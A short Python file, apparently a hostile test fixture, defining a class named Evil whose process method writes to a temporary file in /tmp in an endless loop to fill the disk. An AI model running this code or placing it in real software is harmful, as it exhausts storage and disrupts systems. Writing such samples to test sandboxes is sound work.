"""Fills the folder for temporary files."""

import tempfile


class Evil:
    def process(self, item):
        with tempfile.TemporaryFile(dir="/tmp") as file:
            while True:
                file.write(b"x" * 65536)
